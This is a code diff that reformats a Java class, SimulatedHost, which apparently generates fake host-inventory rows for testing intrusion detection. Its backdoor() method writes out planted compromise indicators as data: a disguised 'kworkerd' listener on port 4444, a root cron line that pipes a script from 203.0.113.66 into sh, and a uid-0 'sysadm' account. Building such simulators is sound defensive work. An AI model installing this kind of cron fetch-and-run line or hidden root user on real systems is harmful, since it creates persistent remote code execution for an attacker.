@@ -74,8 +74,15 @@ final class SimulatedHost {
 
   /** A rogue listener, the crontab line that brings it back, and a user to come back as. */
   void backdoor() {
-    listen(process("kworkerd", "/var/tmp/.cache/kworkerd", "/var/tmp/.cache/kworkerd -l 4444", "0"), ANY, 4444);
-    cron("*/10", "*", "root curl -fsS http://203.0.113.66/k.sh | sh", "/etc/cron.d/apt-compat-check");
+    listen(
+        process("kworkerd", "/var/tmp/.cache/kworkerd", "/var/tmp/.cache/kworkerd -l 4444", "0"),
+        ANY,
+        4444);
+    cron(
+        "*/10",
+        "*",
+        "root curl -fsS http://203.0.113.66/k.sh | sh",
+        "/etc/cron.d/apt-compat-check");
     user("sysadm", "0", "/var/tmp", "/bin/bash");
   }
 
@@ -102,18 +109,30 @@ final class SimulatedHost {
   private Map<String, String> process(String name, String path, String cmdline, String uid) {
     Map<String, String> row =
         row(
-            "pid", Integer.toString(300 + boot.nextInt(30000)),
-            "name", name,
-            "path", path,
-            "cmdline", cmdline,
-            "uid", uid,
-            "gid", uid,
-            "euid", uid,
-            "on_disk", "1",
-            "parent", "1",
-            "state", now.nextInt(10) == 0 ? "R" : "S",
-            "cwd", "/",
-            "start_time", Integer.toString(1_700_000_000 + boot.nextInt(1_000_000)));
+            "pid",
+            Integer.toString(300 + boot.nextInt(30000)),
+            "name",
+            name,
+            "path",
+            path,
+            "cmdline",
+            cmdline,
+            "uid",
+            uid,
+            "gid",
+            uid,
+            "euid",
+            uid,
+            "on_disk",
+            "1",
+            "parent",
+            "1",
+            "state",
+            now.nextInt(10) == 0 ? "R" : "S",
+            "cwd",
+            "/",
+            "start_time",
+            Integer.toString(1_700_000_000 + boot.nextInt(1_000_000)));
     processes.add(row);
     return row;
   }
@@ -134,44 +153,79 @@ final class SimulatedHost {
   private void cron(String minute, String hour, String command, String path) {
     crontab.add(
         row(
-            "event", "",
-            "minute", minute,
-            "hour", hour,
-            "day_of_month", "*",
-            "month", "*",
-            "day_of_week", "*",
-            "command", command,
-            "path", path));
+            "event",
+            "",
+            "minute",
+            minute,
+            "hour",
+            hour,
+            "day_of_month",
+            "*",
+            "month",
+            "*",
+            "day_of_week",
+            "*",
+            "command",
+            command,
+            "path",
+            path));
   }
 
   private void module(String name, String usedBy) {
     modules.add(
         row(
-            "name", name,
-            "size", Integer.toString(16384 * (1 + name.length())),
-            "used_by", usedBy,
-            "status", "Live",
-            "address", "0x" + Long.toHexString(0xffffffffc0000000L + boot.nextInt(1 << 24))));
+            "name",
+            name,
+            "size",
+            Integer.toString(16384 * (1 + name.length())),
+            "used_by",
+            usedBy,
+            "status",
+            "Live",
+            "address",
+            "0x" + Long.toHexString(0xffffffffc0000000L + boot.nextInt(1 << 24))));
   }
 
   private void user(String name, String uid, String home, String shell) {
     users.add(
-        row("uid", uid, "gid", uid, "username", name, "description", "", "directory", home, "shell", shell));
+        row(
+            "uid",
+            uid,
+            "gid",
+            uid,
+            "username",
+            name,
+            "description",
+            "",
+            "directory",
+            home,
+            "shell",
+            shell));
   }
 
   private void rule(String chain, String target, String destination, String port) {
     iptables.add(
         row(
-            "filter_name", "filter",
-            "chain", chain,
-            "policy", "ACCEPT",
-            "target", target,
-            "protocol", "6",
-            "src_ip", "0.0.0.0",
-            "dst_ip", destination,
-            "dst_port", port,
-            "packets", Integer.toString(now.nextInt(1_000_000)),
-            "bytes", Integer.toString(now.nextInt(100_000_000))));
+            "filter_name",
+            "filter",
+            "chain",
+            chain,
+            "policy",
+            "ACCEPT",
+            "target",
+            target,
+            "protocol",
+            "6",
+            "src_ip",
+            "0.0.0.0",
+            "dst_ip",
+            destination,
+            "dst_port",
+            port,
+            "packets",
+            Integer.toString(now.nextInt(1_000_000)),
+            "bytes",
+            Integer.toString(now.nextInt(100_000_000))));
   }
 
   private static Map<String, String> row(String... pairs) {
